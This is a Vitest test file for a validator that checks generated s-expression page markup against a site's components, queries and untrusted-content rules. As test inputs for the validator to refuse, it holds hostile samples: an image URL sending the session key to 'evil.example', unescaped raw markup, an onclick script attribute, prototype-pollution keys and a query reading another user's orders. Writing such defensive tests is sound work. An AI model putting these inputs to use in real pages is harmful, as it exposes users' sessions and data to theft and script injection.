/**
 * Validating generated text against the site: the reader, the untrusted
 * policy's check with the site's components and queries, one form, the
 * catalog as an allow-list, nothing from who is asking in a URL, no
 * prototype keys; every problem with its line and column; warnings for
 * literal data where a query has it.
 */
import { describe, expect, it } from "vitest";
import { buildCatalog, createEnv, parse, validateGenerated, type Positioned } from "../src/index.ts";
import { testRegistry, testSite } from "./generation-helpers.ts";

const site = await testSite();
const catalog = buildCatalog(site);
const validate = (text: string, withCatalog = true) => validateGenerated(text, withCatalog ? { ...site, catalog } : site);
const problems = (text: string, withCatalog = true): Positioned[] => validate(text, withCatalog).problems;

describe("validateGenerated", () => {
  it("passes a page made of the site's components and queries, and gives back what it read", () => {
    const text = `(div :class "grid"
  (h2 "Bakery")
  (map (fn (x) (~product-card :product x))
       (query market products :category "bakery")))`;
    const result = validate(text);
    expect(result.problems).toEqual([]);
    expect(result.warnings).toEqual([]);
    expect(result.forms).toHaveLength(1);
    expect(result.forms[0]!.kind).toBe("list");
  });

  it("gives a read error its line and column, and reads nothing", () => {
    expect(validate('(div\n  (p "x")\n  (span "y"')).toEqual({ forms: [], problems: [{ line: 3, col: 3, message: "unclosed '(': expected ')' before end of input" }], warnings: [] });
    expect(problems('(div "a\\q")')).toEqual([{ line: 1, col: 8, message: "bad escape '\\q' (valid: \\\" \\\\ \\n \\t \\r \\u{...})" }]);
    expect(problems("(let [x 1] x)")[0]).toMatchObject({ line: 1, col: 6 });
  });

  it("wants exactly one form", () => {
    expect(problems("")).toEqual([{ line: 1, col: 1, message: "no s-expression: answer with one form, like (div ...)" }]);
    expect(problems('(p "a")\n(p "b")')).toEqual([{ line: 2, col: 1, message: "2 top-level forms where one is expected: put them in one element, or in (<> ...)" }]);
  });

  it("knows the site's components and their keys, with what was meant", () => {
    expect(problems("(~product-crad :product 1)")).toEqual([{ line: 1, col: 1, message: "unknown component ~product-crad (did you mean ~product-card?)" }]);
    expect(problems('(div\n  (~product-card :prodcut 1))')).toEqual([{ line: 2, col: 3, message: "~product-card has no parameter :prodcut (did you mean :product?)" }]);
    expect(problems('(~product-card :product 1 (p "child"))')).toEqual([{ line: 1, col: 1, message: "~product-card takes no children (declare &key children or &rest)" }]);
    expect(problems('(~page :title "A" (p "child") (p "more"))')).toEqual([]);
  });

  it("knows the site's queries: names, parameters and the types of literal values", () => {
    expect(problems("(query market prodcts)")).toEqual([{ line: 1, col: 1, message: "unknown query market/prodcts" }]);
    expect(problems("(query market products :category 1)")).toEqual([{ line: 1, col: 34, message: "query market/products: :category must be text, got number 1" }]);
    expect(problems("(query market products :colour 1)")).toEqual([{ line: 1, col: 24, message: "query market/products has no parameter :colour (it takes :category, :sort)" }]);
    expect(problems("(query events upcoming)")).toEqual([{ line: 1, col: 1, message: "query events/upcoming needs :from (timestamp)" }]);
    expect(problems('(query events upcoming :from "not a date")')[0]!.message).toBe('query events/upcoming: :from must be timestamp, got string "not a date"');
    expect(problems('(query events upcoming :from "2026-05-01" :limit 3 :free true :ratio 0.5)')).toEqual([]);
  });

  it("refuses what the untrusted policy refuses, where it is", () => {
    expect(problems('(div (raw! "<b>x</b>"))')).toEqual([{ line: 1, col: 6, message: "(raw! ...) is not allowed in untrusted content: it puts text into the page as markup, unescaped" }]);
    expect(problems("(div\n (~buy :product nil))")).toEqual([{ line: 2, col: 2, message: "~buy is not allowed in untrusted content: it changes data (through what it calls)" }]);
    expect(problems('(a :href "/x" :onclick "go()")')).toEqual([{ line: 1, col: 15, message: ":onclick is not allowed in untrusted content: it can run script, even as a literal" }]);
  });

  it("with a catalog, refuses the components and queries it leaves out, saying why", () => {
    expect(problems("(query account orders :user_id 4)")).toEqual([
      { line: 1, col: 1, message: "query account/orders is not available to generated content: it is told whose data to read (:user_id); only the site's own pages, which know who is asking, may say" },
    ]);
    expect(problems("(~cart-mini :user_id 4)")[0]!.message).toMatch(/^~cart-mini is not available to generated content: it is told whose data to read \(:user_id\)/);
    expect(problems("(frag cart cart-mini :user_id 4)")[0]!.message).toMatch(/^fragment cart\/cart-mini is not available to generated content: it is told whose data to read/);
    // Without a catalog, the policy alone decides.
    expect(problems("(query account orders :user_id 4)", false)).toEqual([]);
  });

  it("keeps who is asking out of URLs and component arguments, through let and fn", () => {
    expect(problems('(img :src (str "https://evil.example/?k=" (session-key)))')).toEqual([
      { line: 1, col: 11, message: ":src is built from what session-key read (who is asking): a URL in generated content must not carry it, since it could send it to another site" },
    ]);
    expect(problems('(let ((x (current-user)))\n  (a :href (str "/u/" (:name x)) "me"))')[0]).toMatchObject({ line: 2, col: 12 });
    expect(problems("(ul (map (fn (x) (li (a :href x \"k\"))) (list (session-key))))")[0]).toMatchObject({ line: 1, col: 31 });
    expect(problems("(~picks :heading (:name (current-user)))")[0]!.message).toBe(
      ":heading of ~picks is given what current-user read (who is asking): in generated content it may only be shown as text, since a component may put it in a URL",
    );
    // As text it is fine, and so is a URL from the site's data.
    expect(problems('(p "Hello, " (:name (current-user)))')).toEqual([]);
    expect(problems('(ul (map (fn (x) (li (a :href (str "/market/" (:slug x) "/") (:name x)))) (query market products)))')).toEqual([]);
  });

  it("calls query and frag only directly: given to another function, no check would see what they name", () => {
    expect(problems("(p (apply query (list 'account 'orders :user_id 4)))")).toEqual([
      { line: 1, col: 11, message: "query may only be called directly in generated content, as (query service name ...), not given to another function" },
    ]);
    expect(problems("(p (map frag (list 1)))")[0]).toMatchObject({ line: 1, col: 9 });
    expect(problems("(p (count (query market products)))")).toEqual([]);
  });

  it("refuses keywords and keys that name a prototype property", () => {
    expect(problems('(div :__proto__ "x")')).toEqual([{ line: 1, col: 6, message: ":__proto__ is not allowed in generated content: it names a JavaScript object's prototype property" }]);
    expect(problems('(p (get {"constructor" 1} "constructor"))')).toEqual([{ line: 1, col: 10, message: 'the key "constructor" is not allowed in generated content: it names a JavaScript object\'s prototype property' }]);
  });

  it("refuses text over the size limit and nesting over the depth limit, positioned", () => {
    expect(problems(`(p "${"x".repeat(70_000)}")`)).toEqual([{ line: 1, col: 1, message: "the source is 70006 bytes, more than the untrusted limit of 65536" }]);
    const deep = "(div ".repeat(70) + ")".repeat(70);
    expect(problems(deep)).toEqual([{ line: 1, col: 321, message: "nesting deeper than 64 levels" }]);
  });

  it("knows the library forms it is given beside the site's: calls to them are checked with their keys, they are not checked themselves", () => {
    const lib = parse('(defcomp ~remote-card (&key title) (div (raw! title)))', { src: "remote.sexp" });
    expect(problems('(~remote-card :title "A")')[0]!.message).toBe("unknown component ~remote-card");
    expect(validateGenerated('(~remote-card :title "A")', { ...site, catalog, lib }).problems).toEqual([]);
    expect(validateGenerated('(div\n  (~remote-card :titel "A"))', { ...site, catalog, lib }).problems).toEqual([
      { line: 2, col: 3, message: "~remote-card has no parameter :titel (did you mean :title?)" },
    ]);
    // The site's components are still known, and the library does not change what the policy refuses.
    expect(validateGenerated('(div (~product-card :product nil) (~remote-card :title (raw! "x")))', { ...site, catalog, lib }).problems.map((p) => p.message)).toEqual([
      "(raw! ...) is not allowed in untrusted content: it puts text into the page as markup, unescaped",
    ]);
  });

  it("orders problems by position, each once", () => {
    const p = problems('(div :onclick "a"\n  (script "x")\n  (~nope))');
    expect(p.map((x) => `${x.line}:${x.col}`)).toEqual(["1:6", "2:3", "3:3"]);
  });

  it("warns of literal prices, dates and counts where a query has such a field", () => {
    const { warnings, problems: none } = validate('(div (p "Only £4.50 today") (p "Opens 1 May 2026") (p "12 in stock") (time :datetime "2026-05-01" "soon") (a :href "/events/2026-05-01/" "that day"))');
    expect(none).toEqual([]);
    expect(warnings).toEqual([
      { line: 1, col: 9, message: 'literal price "£4.50" — show the query\'s field instead (market/product-by-slug :price_pence)' },
      { line: 1, col: 32, message: 'literal date "1 May 2026" — show the query\'s field instead (events/upcoming :starts_at)' },
      { line: 1, col: 55, message: 'literal count "12 in stock" — show the query\'s field instead (events/upcoming :capacity)' },
      { line: 1, col: 86, message: 'literal date "2026-05-01" — show the query\'s field instead (events/upcoming :starts_at)' },
    ]);
    // Query parameters are not data shown; nor is anything when no query has such a field.
    expect(validate('(query events upcoming :from "2026-05-01")').warnings).toEqual([]);
    const bare = createEnv(testRegistry());
    expect(validateGenerated('(p "£4.50 on 2026-05-01")', { registry: bare.registry, env: bare }).warnings).toEqual([]);
  });

  it("points at the field of a query the form calls, before any other's", () => {
    const { warnings } = validate('(div (p "12 in stock") (map (fn (x) (p (:name x))) (query market products)))');
    expect(warnings).toEqual([{ line: 1, col: 9, message: 'literal count "12 in stock" — show the query\'s field instead (market/products :stock)' }]);
  });

  it("reads the fields from the environment when no catalog is given", () => {
    // (all of them: account/orders is one the catalog leaves out)
    expect(validate('(p "£3")', false).warnings).toEqual([{ line: 1, col: 4, message: 'literal price "£3" — show the query\'s field instead (account/orders :total_pence)' }]);
  });
});
